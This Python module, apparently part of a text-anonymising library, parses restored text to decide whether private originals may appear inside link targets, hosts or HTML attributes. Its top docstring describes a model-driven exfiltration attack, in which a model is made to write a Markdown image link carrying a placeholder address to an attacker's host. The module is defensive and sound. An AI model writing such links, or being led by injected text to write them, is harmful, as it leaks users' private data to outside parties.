"""Link targets: addresses in a restored text, and which originals join one.

In: a text piece by piece, with the places of originals in it. Out: for each place, whether the
original may be put there.
Not here: what is restored (`restore`), and where the targets of releases are kept (`snapshot`).

An attacker who can make a model write `![](https://HOST/<EMAIL_1>)` must not receive the address,
also where the target is built from placeholders: `<URL_1><SECRET_1>`. So the text is read as it is
after restoring. An original that is joined into a target may be put there only where the same
target occurred in a text that was protected, where it names the host itself, or where the host is
trusted. What is unclear counts as a target.
"""

import ipaddress
import re
from bisect import bisect_left
from collections.abc import Collection, Container, Iterator, Sequence
from copy import copy
from dataclasses import dataclass, field
from functools import cache
from importlib.resources import files
from itertools import islice
from typing import Literal, Self
from unicodedata import normalize
from urllib.parse import unquote

HOSTED = ("URL", "HOST", "IP", "EMAIL")
"""Types of values that may be or contain an address's host."""

_OVERLAP = 1024
"""Characters before new text in which an address may have begun.

A host has at most 253 characters, %-encoded 759.
"""

_SPECIAL = frozenset(
    """example test invalid localhost local internal intranet lan corp home private onion alt arpa
    localdomain""".split()  # noqa: SIM905 - a word a line would be a page
)
"""Last labels of host names that are unregistered or internal.

See RFC 2606, RFC 6761 and RFC 6762.
"""

_PLAIN_ENDS = _SPECIAL | {"com", "net", "org", "edu", "gov", "mil", "biz", "info", "dev", "io"}
"""Last labels that make two labels a host without a path.

With a different last label, as in `Julia.It`, a host needs a third label or a path.
"""

_FILES = frozenset(
    ["md", "py", "sh", "rs", "pl", "ps", "cc", "so", "zip", "mov", "app", "java", "cs", "ml"]
)
"""Last labels that are file extensions, too.

A colon behind `main.py` opens no path.
"""

_WIDE = str.maketrans(
    {0xFF01 + i: chr(0x21 + i) for i in range(94)}
    | {0x3002: ".", 0xFF61: ".", 0x2024: ".", 0xFE52: "."}
)
_IGNORED = re.compile("[\u00ad\u034f\u061c\u180e\u200b-\u200f\u2060-\u2064\ufe00-\ufe0f\ufeff]")
_TRAILING = ".,;:!?)]}*_~'\"`\\>|"
"""Characters at a target's end that belong to the text around it."""

_LETTERS = (
    r"\w\-%\u00ad\u034f\u200b-\u200f\u2060-\u2064\u2100-\u214f\u2460-\u24ff\u2600-\u27bf\ufe00-\ufe0f\ufeff"
    r"\U0001f100-\U0001f1ff\U0001f300-\U0001faff"
)
"""Characters of host names.

With look-alike letters that readers normalize, and characters that they ignore.
"""
_LABEL = f"[{_LETTERS}]"
_HEAD = re.compile(
    r"""(?xi) (?<![a-z0-9+.\-]) [a-z][a-z0-9+.\-]{1,30} : [/\\]{2}
    | (?<![a-z0-9+.\-]) (?:https?|ftps?|wss?) : (?=\S)
    | (?<!\w) www\d? \. (?=[^\s.])
    | (?<!\w) (?:javascript|vbscript|mailto|sms(?:to)?|blob|intent|view-source) : (?=\S)
    | (?<!\w) data: [\w.+\-/;=]* ,
    | (?<=["'`]) [/\\]{2,} [^\s/\\?\#"'`]+ [/\\?\#]
    | (?<![\w/\\]) [/\\]{2} \[ [0-9a-f:.%]+ \]
    | (?<![\w:/\\]) \\{2} (?=[^\s\\/]*[.@]) [^\s\\/]+ \\"""
)
"""Pattern of an address's beginning, by its scheme or slashes.

Host names and numbers are looked for by `_HOST` and `_NUMBER`.
"""
_USER = r"(?:[a-z0-9][a-z0-9!$%*+\-.:@^_~]{0,255}@)?"
_HOST = re.compile(
    rf"(?i)(?<![a-z0-9\-%.:@]){_USER}(?P<host>(?<![\w.]){_LABEL}+(?:\.{_LABEL}+){{0,126}})\.?"
    r"(?P<rest>(?::\d{1,5})?[/\\?#]|:(?=\S))?"
)
_NUMBER = re.compile(
    rf"(?i)(?<![\w.\-%:@]){_USER}(?<![\w.\-%])(?P<host>(?:0x[0-9a-f]+|\d+)(?:\.(?:0x[0-9a-f]+|\d+)){{0,3}}|\[[0-9a-f:.%]{{2,50}}\])\.?"
    r"(?::\d{1,5})?[/\\?#]"
)
_MAIL = re.compile(r"(?i)(?:mailto|sms(?:to)?):")
_PATH = re.compile(r"[/\\?#]")
_PORT = re.compile(r":\d*\Z")
_OPAQUE = re.compile(
    r"(?i)(?:javascript|vbscript|mailto|sms(?:to)?|blob|intent|view-source|data(?=:[\w.+\-/;=]*,)):"
)
_ABSOLUTE = re.compile(r"(?i)\s*[\"'(]?\s*(?:[/\\]{2}|[a-z][a-z0-9+.\-]{1,30}:|\\)")
"""Pattern of a link, or inside of `url(...)`, that names its host."""
_START = re.compile(r"(?i)(?:[a-z][a-z0-9+.\-]*:[/\\]+|(?:https?|ftps?|wss?):|[/\\]{2,})?")
_CLOSED = {quote: re.compile(rf"(?<!\\){quote}(?=[,:;)\]}}>\s])") for quote in "\"'`"}
_CLOSED |= {f"\\{quote}": re.compile(rf"\\{quote}(?=[,:;)\]}}>\s\\])") for quote in "\"'`"}
"""Patterns of the mark that closes a string, by the opening one.

It is written like the opening mark, and a character follows that may follow a string.
"""
_ADDED = re.compile(r"[&#;,\s]")
_TAG_NAME = re.compile(r"[A-Za-z0-9:\-]")
_LOUD = re.compile(r"""[<>"'`\](${]""")
_ENDED = re.compile(r"(?s).*\s")
_GROWS = re.compile(rf"[{_LETTERS}.。｡．․﹒@+:~]")
"""Characters that may extend a host, or the user before one."""

_FETCHED = frozenset(
    """src href action formaction srcset imagesrcset poster data background cite ping style srcdoc
    content longdesc manifest archive codebase classid usemap profile lowsrc dynsrc xlink:href code
    object to from values http-equiv""".split()  # noqa: SIM905 - as above
)
"""Attributes whose values are or contain addresses; `on...` too.

The values of all other attributes are text.
"""

_OUTSIDE, _OPENED, _NAME, _TAG, _EQUALS, _QUOTED, _BARE = range(7)

_COMMANDS = (("`", "`"), ("${", "}"), ("$(", ")"))
"""Delimiters of commands and values in a target; spaces there end nothing."""


class Insertion:
    """Place of an original in a text: undecided while it `waits`.

    Once `waits` is 0, `allowed` says whether the original may be put there.

    Args:
        type: type of the value, upper-case.
    """

    __slots__ = ("allowed", "type", "waits")

    def __init__(self, type_: str) -> None:
        self.type, self.waits, self.allowed = type_, 0, True

    def settle(self, allowed: bool) -> None:
        """Records one of the pending verdicts; one refusal is enough to refuse."""
        self.waits -= 1
        self.allowed &= allowed


@dataclass(frozen=True, kw_only=True)
class Trusted:
    """Targets and hosts into which originals may be joined. Secret.

    Args:
        targets: targets from protected texts, with their originals, sorted.
        hosts: internal hosts that a user named, and hosts of the configuration; `*.NAME` for all
            below a name.
    """

    targets: Sequence[str] = field(default=(), repr=False)
    hosts: Collection[str] = field(default=frozenset(), repr=False)

    def has(self, target: str) -> bool:
        """Says whether a target is trusted."""
        place = bisect_left(self.targets, target)
        return place < len(self.targets) and self.targets[place] == target

    def has_longer(self, begin: str) -> bool:
        """Says whether a trusted target starts with this text."""
        place = bisect_left(self.targets, begin)
        return place < len(self.targets) and self.targets[place].startswith(begin)

    def has_host(self, host: str) -> bool:
        """Says whether a host, or a wildcard above it, is trusted."""
        labels = host.split(".")
        return host in self.hosts or any(
            f"*.{'.'.join(labels[i:])}" in self.hosts for i in range(1, len(labels))
        )


_Verdict = bool | Literal["wait"]
"""Verdict on the place of an original; "wait" if further text decides."""


_Place = tuple[Insertion, int, int]
"""An insertion with its start and end in a target or run."""


class _Target:
    """A target being read, with its undecided places.

    Args:
        flat: True if its position makes all of it an address: a link's destination, an attribute.
        text: its beginning.
    """

    __slots__ = (
        "_check", "flat", "hopeless", "host", "joined", "length", "pieces", "places", "trusted"
    )  # fmt: skip

    def __init__(self, text: str = "", *, flat: bool = False) -> None:
        self.flat, self.pieces, self.length = flat, [text] if text else [], len(text)
        self.places: list[_Place] = []
        # Start and end of the host, once more text cannot change it.
        self.host: tuple[int, int] | None = None
        self.hopeless = self.trusted = False  # no known target begins like it; its host is trusted
        self._check = self.joined = 0  # where the last original ends

    def add(self, text: str) -> None:
        """Appends text."""
        self.pieces.append(text)
        self.length += len(text)

    def text(self) -> str:
        """Returns the text so far."""
        whole = "".join(self.pieces)
        self.pieces = [whole]
        return whole

    def cut(self, count: int) -> str:
        """Removes characters from the end and returns the rest."""
        rest = self.text()[:-count]
        self.pieces, self.length = [rest], len(rest)
        return rest

    def join(self, place: Insertion, text: str) -> None:
        """Appends an original."""
        place.waits += 1
        self.places.append((place, self.length, self.length + len(text)))
        self.add(text)
        self.joined = self.length

    def ends(self, quote: str, char: str) -> bool:
        """Says whether a quotation mark ends the text and closes a string.

        A mark that belongs to an original closes nothing.

        Args:
            quote: the opening mark, with a backslash if it was escaped.
            char: the character that follows.
        """
        if self.joined == self.length or not self.pieces or not self.pieces[-1].endswith(quote[-1]):
            return False
        return _CLOSED[quote].search("".join(self.pieces[-2:])[-2:] + char) is not None

    def is_due(self, final: bool) -> bool:
        """Says whether the target should be judged now.

        That is at its end, or when its length doubled since the last check, so the checks together
        are linear.
        """
        grown = self.length >= self._check or self.length < 64
        return bool(self.places) and (final or grown or self.hopeless)

    def looked(self) -> None:
        """Sets the length at which the next check is due."""
        self._check = 2 * self.length

    def settle(self) -> None:
        """Decides all places by the host alone."""
        for place, _, _ in self.places:
            place.settle(self.trusted)
        self.places = []

    def is_lost(self) -> bool:
        """Says whether the host alone decides all further places, which follow it."""
        return self.hopeless and self.host is not None and self.places[0][1] >= self.host[1]


class TargetFinder:
    """Streaming parser that decides which originals in a text join targets.

    Each original counts as one step: its characters close no quotation mark, link or tag.

    Args:
        trusted: targets and hosts that originals may join.
    """

    def __init__(self, trusted: Trusted) -> None:
        self._trusted = trusted
        self._begin()

    def _begin(self) -> None:
        self._tag, self._quote, self._attribute, self._tag_name = _OUTSIDE, "", "", ""
        self._value: _Target | None = None
        self._link: _Target | None = None
        self._depth = 0  # open brackets inside the destination of a link
        self._angled = self._after = self._in_string = False
        self._opening = ""  # "](" or "]:" was read, and its destination has not begun
        self._css: _Target | None = None
        self._based = False  # a <base> tag was read: relative links may lead to another host
        self._last = ""
        # A run is text between spaces; a target in it may be open, and originals at its end may
        # become part of a host.
        self._run: list[str] = []
        self._length = self._scanned = 0
        self._open: _Target | None = None
        self._closer = ""  # the quotation mark that ends the open target, where spaces don't
        self._tail: list[_Place] = []
        self._marked = (
            False  # whether quotation marks or dollars are in it, so that spaces may not end it
        )
        self._quotes = 0  # number of quotation marks in the line before the run

    # ---- steps -----------------------------------------------------------------------------------

    def pass_text(self, text: str) -> None:
        """Reads text that is no original."""
        at = 0
        while at < len(text):
            if not self._is_quiet():
                self._step(text[at])
                at += 1
                continue
            loud = _LOUD.search(text, at)
            end = loud.start() if loud else len(text)
            if end > at:
                self._pass_quiet(text[at:end])
            if loud:
                self._step(text[end])
            at = end + 1

    def _pass_quiet(self, text: str) -> None:
        ended = _ENDED.match(text)
        if ended:
            self._end_run(text)
        self._grow(text[ended.end() if ended else 0 :])
        self._last = text[-1]

    def pass_original(self, text: str, place: Insertion) -> None:
        """Reads an original."""
        if not text:
            return
        if self._tag in (_OPENED, _NAME):
            self._tag = _OUTSIDE
        elif self._tag == _EQUALS:
            self._open_value("")
        if self._opening:
            self._begin_link(text)
        if self._after and self._link is not None and _ABSOLUTE.match(self._link.text()):
            self._after = False
            self._link.add(" ")
        target = self._enclosing_target()
        if target is not None:
            self._join(target, place, text)
        else:
            self._join_run(place, text)
        self._last = ""

    def _enclosing_target(self) -> _Target | None:
        """Returns the open target that any next character belongs to, if any."""
        if self._link is not None and not self._after:
            return self._link
        if self._value is not None and self._value.flat:
            return self._value
        return self._css if self._css is not None and _ABSOLUTE.match(self._css.text()) else None

    def begin_value(self) -> None:
        """Ends the text and begins a new one inside a string."""
        self.close()
        self._begin()
        self.pass_text('"')

    def fork(self) -> Self:
        """Copies the finder, so that both read different text from here.

        Each undecided place then waits for the verdicts of both.
        """
        twin = copy(self)
        twin._run, twin._tail = self._run.copy(), self._tail.copy()
        undecided = [place for place, _, _ in twin._tail]
        for name in ("_value", "_link", "_css", "_open"):
            if (target := getattr(self, name)) is not None:
                setattr(twin, name, target_copy := copy(target))
                target_copy.pieces, target_copy.places = target.pieces.copy(), target.places.copy()
                undecided += [place for place, _, _ in target_copy.places]
        for place in undecided:
            place.waits += 1
        return twin

    def close(self) -> None:
        """Ends the text, which decides all places."""
        self._end_run()
        for target in (self._link, self._value, self._css):
            if target is not None:
                self._judge(target, final=True)
        self._link = self._value = self._css = None

    def _is_quiet(self) -> bool:
        """Says whether only the ends of runs matter."""
        return self._last != "]" and not (
            self._tag or self._tail or self._opening or self._marked
            or self._open is not None or self._link is not None or self._css is not None
        )  # fmt: skip

    def _step(self, char: str) -> None:
        if self._follow_link(char):
            self._last = char
            return
        self._follow_css(char)
        if self._tag != _OUTSIDE or char == "<":
            self._follow_tag(char)
        if self._value is None or not self._value.flat:
            self._step_run(char)
        self._last = char

    # ---- links and tags --------------------------------------------------------------------------

    def _follow_link(self, char: str) -> bool:
        """Reads a character of a link's destination; False if it is none."""
        link = self._find_link(char)
        if link is None:
            return False
        if self._angled and not link.length and char == "<" and self._last != "<":
            return True  # the bracket that opens it
        ended = self._ends_link(link, char)
        if ended is None:
            return False
        if ended:
            self._judge(link, final=True)
            self._link = None
            return False
        link.add(char)
        self._judge(link)
        return True

    def _find_link(self, char: str) -> _Target | None:
        """Returns the open link, beginning one behind `](` or `]:`."""
        if self._opening:
            if char.isspace() and not char == self._last == "\n":
                return None
            self._begin_link(char)
        elif self._link is None and char in "(:" and self._last == "]":
            self._opening = f"]{char}"
        return self._link

    def _ends_link(self, link: _Target, char: str) -> bool | None:
        """Says whether a character ends a link's destination.

        None for a space that is no part of it, or may be one.
        """
        escaped = self._last == "\\"
        if self._angled:
            return char in ("\n" if escaped else "\n>")
        if self._after:
            return None if char.isspace() else self._ends_behind_space(link, char)
        if self._ends_string(link, char):
            return True
        if self._depth and char.isspace():
            self._after = True
            self._end_run(char)
            self._judge(link, final=not _ABSOLUTE.match(link.text()))
            return None
        if self._depth and not escaped:
            self._depth += (char == "(") - (char == ")")
            return self._depth == 0
        return char.isspace()

    def _ends_string(self, link: _Target, char: str) -> bool:
        """Says whether the string around a link ends; removes its quotation mark."""
        ended = self._in_string and char in ",:;)]}" and link.ends('"', char)
        if ended:
            link.cut(1)
        return ended

    def _ends_behind_space(self, link: _Target, char: str) -> bool:
        """Says whether a title or bracket behind a space ends a link.

        Lenient readers take any other text there for a part of the address.
        """
        self._after = False
        if char in "\"'()" or not _ABSOLUTE.match(link.text()):
            return True
        link.add(" ")
        return False

    def _begin_link(self, char: str) -> None:
        """Begins a link's destination, if one may start with this character.

        The character itself is not read.
        """
        reference, self._opening = self._opening == "]:", ""
        self._angled, self._after = char == "<", False
        self._depth = 0 if reference else 1
        self._in_string = self._find_run_quote() == '"'
        if not (char[:1] in "\"'`" or (reference and not self._angled and char not in ("/", "\\"))):
            self._link = _Target(flat=True)

    def _follow_css(self, char: str) -> None:
        if self._css is not None:
            if char in ")\n" or self._css.length > _OVERLAP:
                self._judge(self._css, final=True)
                self._css = None
            else:
                self._css.add(char)
                self._judge(self._css)
        elif char == "(" and "".join(self._run[-3:])[-3:].lower() == "url":
            self._css = _Target(flat=True)

    def _follow_tag(self, char: str) -> None:
        begin, equals = self._begin_tag, self._step_equals
        steps = (begin, begin, self._name_tag, self._step_tag, equals)
        (*steps, self._step_value, self._step_value)[self._tag](char)

    def _begin_tag(self, char: str) -> None:
        named = self._tag == _OPENED and char.isalpha() and char.isascii()
        self._tag = _NAME if named else _OPENED if char == "<" else _OUTSIDE
        self._tag_name, self._attribute = char if named else "", ""

    def _name_tag(self, char: str) -> None:
        if _TAG_NAME.match(char) is not None:
            self._tag_name = (self._tag_name + char)[:64]
            return
        within = char.isspace() or char == "/"
        self._tag = _TAG if within else _OPENED if char == "<" else _OUTSIDE
        self._based |= within and self._tag_name.lower() == "base"

    def _step_tag(self, char: str) -> None:
        if char in "=>":
            self._tag = _EQUALS if char == "=" else _OUTSIDE
        else:
            self._attribute = "" if char in "\"'/" else (self._attribute + char)[-64:]

    def _step_equals(self, char: str) -> None:
        if char == ">":
            self._tag = _OUTSIDE
        elif not char.isspace():
            quoted = char in "\"'"
            self._open_value(char if quoted else "")
            if not quoted:
                self._add_value(char)

    def _step_value(self, char: str) -> None:
        bare = self._tag == _BARE
        if not (char.isspace() or char == ">" if bare else char == self._quote):
            self._add_value(char)
            return
        self._tag, self._attribute = _OUTSIDE if bare and char == ">" else _TAG, ""
        if self._value is not None:
            self._judge(self._value, final=True)
        self._value = None
        self._end_run()

    def _open_value(self, quote: str) -> None:
        self._tag, self._quote = _QUOTED if quote else _BARE, quote
        name = (self._attribute.split() or [""])[-1].lower()
        self._value = _Target(
            flat=name in _FETCHED or name.startswith("on") or "href" in name or "src" in name
        )
        self._attribute = ""
        if self._value.flat:
            self._end_run()

    def _add_value(self, char: str) -> None:
        if self._value is not None and self._value.flat:
            self._value.add(char)
            self._judge(self._value)

    # ---- runs ------------------------------------------------------------------------------------

    def _run_text(self) -> str:
        whole = "".join(self._run)
        self._run = [whole]
        return whole

    def _grow(self, text: str) -> None:
        if not text:
            return
        self._run.append(text)
        self._length += len(text)
        if self._length > 3 * _OVERLAP and not self._tail and not self._find_open():
            whole = self._run_text()
            self._quotes += _count(whole[:-_OVERLAP])
            self._run, self._length, self._scanned = [whole[-_OVERLAP:]], _OVERLAP, _OVERLAP

    def _step_run(self, char: str) -> None:
        if self._closer or (char in " \t" and self._can_continue()):
            self._step_closer(char)
        elif char.isspace() or char in "<>":
            self._end_run(char)
        elif self._open is not None:
            self._step_open(char)
        else:
            self._step_bare(char)

    def _step_bare(self, char: str) -> None:
        """Reads a character outside of targets."""
        self._marked |= char in "\"'`$"
        far = bool(self._tail) and self._length - self._tail[0][1] > _OVERLAP
        if self._tail and (far or _GROWS.match(char) is None):
            self._resolve(char)
        if self._open is not None:
            self._step_open(char)
        else:
            self._grow(char)

    def _step_open(self, char: str) -> None:
        """Reads a character of the run's open target.

        It may complete the quotation mark that ends the target.
        """
        target = self._open
        assert target is not None, "or there would be nothing to go on with"
        quote = self._find_run_quote() if char in ",:;)]}\\" else ""
        if quote and target.ends(quote, char):
            closed = target.cut(len(quote))
            self._judge(target, final=True)
            self._open, self._run = None, [self._run_text(), closed]
            self._length += len(closed)
            self._grow(quote + char)
            self._scanned = self._length
            return
        target.add(char)
        self._judge(target)

    def _step_closer(self, char: str) -> None:
        """Reads a character of a target in quotation marks or `$( )`.

        Spaces end no such target.
        """
        assert self._open is not None, "or nothing would need an end"
        if char in (self._closer, "\n") and self._last != "\\":
            self._end_run(char)
            self._quotes += char == '"'
            return
        self._open.add(char)
        self._judge(self._open)

    def _can_continue(self) -> bool:
        """Says whether a target continues behind a space.

        It does in a string that begins with it, and in a command inside it.
        """
        if self._open is None and not self._find_open():
            return False
        assert self._open is not None, "or none was found"
        text, quote = self._open.text(), self._run_text()[-1:]
        inner = (
            closes
            for opens, closes in _COMMANDS
            if opens in text and closes not in text.rpartition(opens)[2]
        )
        self._closer = next(inner, "")
        if not self._closer and quote in ("'", '"', "`") and not text.endswith(quote):
            self._closer = quote
        return bool(self._closer)

    def _end_run(self, behind: str = "") -> None:
        """Ends the run; a line break behind it resets the quotation marks."""
        if self._tail:
            self._resolve("")
        if self._open is not None:
            self._judge(self._open, final=True)
        if self._run or self._open is not None:
            whole = "".join(self._run) + ("" if self._open is None else "".join(self._open.pieces))
            self._quotes += _count(whole)
        self._quotes = 0 if "\n" in behind else self._quotes
        self._run, self._length, self._scanned = [], 0, 0
        self._open, self._closer, self._tail, self._marked = None, "", [], False

    def _find_run_quote(self) -> str:
        """Returns the quotation mark of the string around the run's open target."""
        before = self._run_text()
        return self._find_quote(before, len(before))

    def _find_quote(self, whole: str, start: int) -> str:
        """Returns the quotation mark of the string around a place, or "".

        It is directly before the place, or earlier in the line.
        """
        if whole[start - 1 : start] in _CLOSED:
            return whole[start - 1 - (whole[start - 2 : start - 1] == "\\") : start]
        return '"' if (self._quotes + _count(whole[:start])) % 2 else ""

    def _find_open(self) -> bool:
        """Splits off a target that is open at the run's end."""
        if self._scanned >= self._length:
            return False
        whole = self._run_text()
        low = max(0, self._scanned - _OVERLAP)
        start = next(self._find_openings(whole, low, len(whole)), None)
        if start is None:
            self._scanned = self._length
            return False
        self._cut(start)
        return True

    def _cut(self, start: int) -> None:
        """Splits the run: from this offset on, it is the open target."""
        whole = self._run_text()
        self._open = _Target(whole[start:])
        self._run, self._length = [whole[:start]], start
        self._hand_over(self._open, start, len(whole))
        self._judge(self._open)

    def _hand_over(self, target: _Target, start: int, end: int) -> None:
        """Moves the pending places inside a target to it; allows all others."""
        for place, begin, stop in self._tail:
            if begin < end and start < stop:
                target.places.append((place, max(0, begin - start), min(stop, end) - start))
            else:
                place.settle(True)
        self._tail = []

    def _join_run(self, place: Insertion, text: str) -> None:
        """Reads an original in a run.

        Spaces in it end no target, because it may stay a placeholder.
        """
        if self._open is None and not self._tail:
            self._find_open()
        if self._open is not None:
            self._join(self._open, place, text)
            return
        begin = self._add_tail(place, text)
        whole = self._run_text()
        for start in self._find_openings(whole, max(0, self._tail[0][1] - _OVERLAP), begin):
            self._cut(next((low for _, low, high in self._tail if low <= start < high), start))
            return
        self._scanned = begin
        ended = _ENDED.match(text)
        if ended:
            self._end_run()
            self._add_tail(place, text[ended.end() :])

    def _add_tail(self, place: Insertion, text: str) -> int:
        """Appends an original that may extend a host; returns its offset."""
        begin = self._length
        if text:
            place.waits += 1
            self._run.append(text)
            self._length += len(text)
            self._tail.append((place, begin, self._length))
        return begin

    def _find_openings(self, whole: str, low: int, end: int) -> Iterator[int]:
        """Yields offsets where targets begin that no quotation mark ends before `end`."""
        closed = 0
        for start in sorted(_find_heads(whole, low)):
            if start < closed:
                continue
            end_found = self._find_closing(whole, start, end)
            if end_found is None:
                yield start
            else:
                closed = end_found

    def _find_closing(self, whole: str, start: int, end: int) -> int | None:
        """Finds where the string around a target ends, if before `end`."""
        quote = self._find_quote(whole, start) if start else ""
        mark = _CLOSED[quote].search(whole, start, end) if quote else None
        return mark.start() if mark else None

    def _resolve(self, char: str) -> None:
        """Decides the places at the run's end: in a host, or not.

        Args:
            char: the next character; "" at the end of the run.
        """
        whole, first = self._run_text(), self._tail[0][1]
        low = max(0, first - _OVERLAP)
        for start in self._find_openings(whole + char, low, first):
            if start < self._tail[-1][2]:
                self._cut(start)
                return
        for start, end in _find_names(whole, low, called=char == "("):
            if any(start < high and low_ < end for _, low_, high in self._tail):
                self._hand_over(target := _Target(whole[start:end]), start, end)
                self._judge(target, final=True)
                break
        for place, _, _ in self._tail:
            place.settle(True)
        self._tail = []
        self._scanned = self._length

    # ---- verdicts --------------------------------------------------------------------------------

    def _join(self, target: _Target, place: Insertion, text: str) -> None:
        target.join(place, text)
        self._judge(target)

    def _judge(self, target: _Target, *, final: bool = False) -> None:
        """Decides the places of a target that are certain, finally all."""
        if not target.is_due(final):
            return
        if not final and target.is_lost():
            target.settle()
            return
        text = target.text()
        target.looked()
        self._find_host(target, text, final)
        bare = text.strip().rstrip("\"'`,;\\" if target.flat else _TRAILING)
        waiting = []
        for place in target.places:
            verdict = self._judge_by_form(target, text, place, final)
            if verdict is None:
                verdict = self._judge_by_host(target, text, place)
            if verdict is None:
                verdict = self._judge_by_memory(target, text, bare, place[2], final)
            if verdict == "wait":
                waiting.append(place)
            else:
                place[0].settle(verdict)
        target.places = waiting

    def _find_host(self, target: _Target, text: str, final: bool) -> None:
        """Stores the host of a target, once more text cannot change it."""
        if target.host is not None:
            return
        low, high, complete = authority(text)
        if complete or final or target.length > 2 * _OVERLAP:
            target.host = low, high
            target.trusted = bool(self._trusted.hosts) and self._is_trusted(text, text[low:high])

    def _judge_by_form(
        self, target: _Target, text: str, at: _Place, final: bool
    ) -> _Verdict | None:
        """Returns the verdict for a target that is only the original.

        None for any other target. A mail address behind `mailto:` counts, too.

        A mail address behind `mailto:` counts, too.
        """
        _, start, end = at
        behind = text[end : end + 64].strip(_TRAILING + " ")
        whole = len(text) <= end + 64 and not text[:start].strip()
        if behind or not (whole or (not target.flat and _MAIL.fullmatch(text[:start]))):
            return None
        if not final:
            return "wait"
        return not (target.flat and self._based) or _ABSOLUTE.match(text) is not None

    def _judge_by_host(self, target: _Target, text: str, at: _Place) -> _Verdict | None:
        """Returns the verdict by the host; None if the host decides nothing.

        An original may name the host itself, or be joined to a trusted host.
        """
        place, start, end = at
        if target.host is None:
            return "wait" if place.type in HOSTED or self._trusted.hosts else None
        low, high = target.host
        if place.type in HOSTED and start <= low <= high <= end and not _OPAQUE.match(text):
            return True
        return True if target.trusted and (end <= low or start >= high) else None

    def _judge_by_memory(
        self, target: _Target, text: str, bare: str, end: int, final: bool
    ) -> _Verdict:
        """Returns the verdict by trusted targets and their beginnings."""
        is_known = self._is_known(bare, final)
        target.hopeless = is_known is False
        if target.hopeless:
            return self._has_stood(text, end, target.host)
        return "wait" if is_known is None else is_known

    def _is_trusted(self, text: str, host: str) -> bool:
        return self._trusted.has_host(host.lower().strip("[]")) and is_plain(text)

    def _is_known(self, text: str, final: bool) -> bool | None:
        """Says whether a target is trusted; None if further text decides."""
        if final:
            return self._trusted.has(text)
        return None if self._trusted.has_longer(text) else False

    def _has_stood(self, text: str, end: int, host: tuple[int, int] | None) -> bool:
        """Says whether a trusted target, with original and host, begins this one."""
        ends = (end + match.start() for match in islice(_ADDED.finditer(text[end:]), 4))
        return host is not None and any(
            at >= host[1] and self._trusted.has(text[:at]) for at in ends
        )


class TargetCollector(TargetFinder):
    """Collector of the targets in a protected text that originals join.

    Attributes:
        found: the targets, with their originals.
    """

    def __init__(self) -> None:
        super().__init__(Trusted())
        self.found: set[str] = set()

    def _is_known(self, text: str, final: bool) -> bool | None:
        if not final:
            return None
        self.found.add(text)
        return True


# ---- hosts ---------------------------------------------------------------------------------------


def authority(text: str) -> tuple[int, int, bool]:
    """Finds the host in an address and whether it is complete.

    Returns:
        Start and end of the host; True if it is complete.
    """
    start = _START.match(text)
    low = start.end() if start else 0
    path = _PATH.search(text, low)
    end = path.start() if path else len(text)
    low = text.rfind("@", low, end) + 1 or low
    host = text[low:end]
    port = _PORT.search(host)
    if port and (host[0] != "[" or "]" in host[: port.start()]):
        end = low + port.start()
    return low, end, path is not None


def is_plain(text: str) -> bool:
    """Says whether all readers find the same host in an address.

    True if nothing unusual precedes the path.
    """
    return _PLAIN.match(text) is not None and not _OPAQUE.match(text)


_PLAIN = re.compile(
    r"(?i)(?:[a-z][a-z0-9+.\-]*://|//)?(?:[\w.~!$&*+,;=\-]+(?::[\w.~!$&*+,;=\-]*)?@)?"
    r"(?:[a-z0-9\-]+(?:\.[a-z0-9\-]+)*|\[[0-9a-f:.]+\])(?::\d{1,5})?(?:[/?#]|\Z)"
)


def is_internal(host: str) -> bool:
    """Says whether a host is internal by its form.

    Loopback and private addresses, single labels and internal endings are.
    """
    host = host.lower().strip("[]").rstrip(".")
    try:
        address = ipaddress.ip_address(host)
    except ValueError:
        if not re.fullmatch(r"[a-z0-9\-]+(?:\.[a-z0-9\-]+)*", host) or re.fullmatch(
            r"(?:0x[0-9a-f]*|[\d.])+", host
        ):
            return False
        return "." not in host or host.endswith(
            (".internal", ".local", ".lan", ".corp", ".home.arpa", ".localhost")
        )
    return address.is_private or address.is_loopback


_NAMED = re.compile(
    r"(?i)(?:(?<![\w+.\-])(?:[a-z][a-z0-9+.\-]*:)?//(?:[^\s/?#@\"'<>]*@)?|(?<![\w.\-@/]))"
    r"(?P<host>\[[0-9a-f:.]+\]|[a-z0-9\-]+(?:\.[a-z0-9\-]+)*)"
)


def internal_hosts(text: str) -> set[str]:
    """Finds internal hosts in a text.

    Those are hosts of addresses, and names with an internal ending.
    """
    hosts = set()
    for match in (
        _NAMED.finditer(text) if "." in text or "//" in text or "localhost" in text.lower() else ()
    ):
        host = match["host"].lower().strip("[]")
        if ("//" in match[0] or "." in host or host == "localhost") and is_internal(host):
            hosts.add(host)
    return hosts


@cache
def _ends() -> Container[str]:
    """Reads last labels of host names that exist (root zone of IANA)."""
    return _SPECIAL | set((files("textveil.data") / "tlds.txt").read_text("ascii").split())


def _find_last_label(host: str) -> tuple[str, int]:
    """Returns a host's last label, "" if unregistered, and the label count."""
    name = normalize("NFKC", _IGNORED.sub("", unquote(host))).casefold().strip("._-")
    labels = name.split(".")
    last = labels[-1]
    if not last.isascii():
        try:
            last = last.encode("idna").decode()
        except UnicodeError:
            last = ""
    return (last if last in _ends() else ""), len(labels)


def _count(text: str) -> int:
    """Counts quotation marks that are not escaped."""
    return text.count('"') - text.count('\\"')


def _is_path(text: str, start: int) -> bool:
    """Says whether an offset is inside a path of folders and files.

    A dotted name there is a folder or file, no host.
    """
    before = text[max(0, start - 2) : start]
    return before[-1:] in ("~", "$") or (
        before[-1:] in ("/", "\\") and before not in ("//", "\\\\", "/\\", "\\/")
    )


def _find_heads(text: str, low: int) -> Iterator[int]:
    """Yields offsets of addresses that are open at the text's end.

    They have a scheme, or a host and a path or port.
    """
    plain = text.translate(_WIDE)
    for needed, form, begins in _HEADS:
        for match in form.finditer(plain, low) if needed.search(plain) else ():
            if (start := begins(match)) is not None:
                yield start


def _of_scheme(found: re.Match[str]) -> int | None:
    www = found[0][:3].lower() == "www"
    return None if www and _is_path(found.string, found.start()) else found.start()


def _of_host(found: re.Match[str]) -> int | None:
    if found["rest"] is None or _is_path(found.string, found.start()):
        return None
    last, labels = _find_last_label(found["host"])
    if not last or labels < 2 or (found["rest"] == ":" and last in _FILES):
        return None
    return _include_slashes(found.string, found.start())


def _of_number(found: re.Match[str]) -> int | None:
    start = _include_slashes(found.string, found.start())
    if _is_path(found.string, found.start()):
        return None
    return start if _is_number(found["host"], slashes=start < found.start()) else None


_HEADS = (
    (re.compile(r"(?i)[:\\]|//|www"), _HEAD, _of_scheme),
    (re.compile(r"[.%]"), _HOST, _of_host),
    (_PATH, _NUMBER, _of_number),
)
